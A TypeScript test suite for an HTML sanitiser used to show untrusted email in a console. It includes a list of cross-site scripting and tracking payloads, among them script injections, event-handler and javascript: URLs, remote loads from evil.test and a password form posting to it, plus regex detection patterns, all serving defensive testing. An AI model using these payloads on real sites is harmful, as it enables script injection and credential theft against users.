// Tests untrusted HTML in the console: five hundred hostile emails keep no script, form, style or remote load.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { harmless, harmlessPage } from '../../src/views/html/harmless.ts'
import { costingAtOnce } from '../kit/cost.ts'
import { seeded } from '../kit/seeded.ts'

/** Ways to run, load, send or lead. Each is tested alone and inside the others. */
const PIECES = [
  '<script>alert(1)</script>',
  '<script src=//evil.test/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel.gif" width=1 height=1>',
  '<img srcset="https://evil.test/a 1x">',
  '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.test/a"/></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<style>@import "https://evil.test/x.css"; body{background:url(https://evil.test/b)}</style>',
  '<p style="background:url(https://evil.test/c)">x</p>',
  '<link rel=stylesheet href=https://evil.test/d.css>',
  '<link rel=dns-prefetch href=//evil.test>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<iframe src="https://evil.test" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test/e"></object><embed src="https://evil.test/f">',
  '<video poster="https://evil.test/g" src="https://evil.test/h"></video><audio src="https://evil.test/i"></audio>',
  '<table background="https://evil.test/j"><tr><td background="https://evil.test/k">x</td></tr></table>',
  '<body background="https://evil.test/l" onload="alert(1)">',
  '<input type=image src="https://evil.test/m" autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<a href="https://there.test" ping="https://evil.test/n">link</a>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
]

const FORBIDDEN =
  /<(?!\/?(?:a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)\b)[a-z!/]/i
/** Searched in the text without the values of attributes. */
const ATTRIBUTES = /<[^>]*\s(?:on\w+|style|srcset|background|ping|poster|srcdoc|formaction|action)\s*=/i
const TARGETS = /(?:href|src)="\s*(?:javascript|vbscript|data:text)|<img[^>]*src="(?!data:image)/i

test('removes relative links, because they would lead into the console', () => {
  for (const href of ['/sign-out', '//evil.test/', '?q=x', '#top', 'mail/1', '\\\\evil.test', ''])
    assert.doesNotMatch(harmless(`<base href="https://there.test/"><a href="${href}">x</a>`), /href/, href)
  for (const href of ['https://there.test/a', 'mailto:ann@there.test', 'tel:+4930'])
    assert.ok(harmless(`<a href="${href}">x</a>`).includes(`href="${href}"`), href)
})

test('loads at most a hundred images, only through this server', () => {
  const random = seeded(11)
  const address = (url: string): string => `/picture?u=${encodeURIComponent(url)}`
  for (let n = 0; n < 200; n++) {
    const mail = Array.from({ length: 8 }, () => PIECES[Math.floor(random() * PIECES.length)]!).join('')
    for (const [, src] of harmless(mail, { addressOf: address }).matchAll(/<img[^>]*\ssrc="([^"]*)"/g))
      assert.match(src!, /^(?:data:image\/|\/picture\?u=https?%3A%2F%2F)/)
  }
  const many = harmless('<img src="http://there.test/a.png" alt="A">'.repeat(150), { addressOf: address })
  assert.equal(many.match(/<img/g)!.length, 100)
  assert.match(many, /alt="A"/)
})

test('sanitises five hundred hostile emails: no scripts, loads, forms or links into the console', () => {
  const random = seeded(7)
  const pick = (): string => PIECES[Math.floor(random() * PIECES.length)]!
  for (let n = 0; n < 500; n++) {
    const [one, two, three] = n < PIECES.length ? [PIECES[n]!, '', ''] : [pick(), pick(), pick()]
    const cut = Math.floor(random() * one.length)
    const mail = n % 2 === 0 ? `<div>${one}${two}${three}</div>` : one.slice(0, cut) + two + one.slice(cut) + three
    const shown = harmless(mail)
    const bare = shown.replaceAll(/="[^"]*"/g, '=""')
    assert.doesNotMatch(bare, FORBIDDEN, mail)
    assert.doesNotMatch(bare, ATTRIBUTES, mail)
    assert.doesNotMatch(shown, TARGETS, mail)
  }
})

test('keeps harmless HTML', () => {
  const shown = harmless(
    '<h1>Hello</h1><p align="center">A <a href="https://there.test/x?a=1&amp;b=2">link</a></p><table border="1"><tr><td colspan="2">1</td></tr></table><img src="data:image/png;base64,AAAA" alt="dot">',
  )
  for (const part of [
    '<h1>Hello</h1>',
    'href="https://there.test/x?a=1&amp;b=2"',
    'rel="noopener noreferrer nofollow"',
    'colspan="2"',
    'data:image/png;base64,AAAA',
  ])
    assert.ok(shown.includes(part), `${part} in ${shown}`)
})

test('campaign styles cannot load images', () => {
  const ways = ['url("/a")', 'image-set("/a" 1x)', '-webkit-image-set("/a" 1x)', 'cross-fade("/a", red)', 'image("/a")']
  for (const way of ways) {
    const html = `<p style='color:red;background:${way}'>x</p>`
    assert.equal(harmlessPage({ html, pictures: null, styled: true }).styles, '.s0{color:red}', way)
  }
})

test('limits the cost of a 20 MB email and of deep nesting', () => {
  costingAtOnce(20_000, () => harmless('<p>plain text of a mail </p>'.repeat(800_000)))
  costingAtOnce(20_000, () => harmless('<div>'.repeat(100_000)))
  costingAtOnce(20_000, () => harmless('<'.repeat(1_000_000)))
})
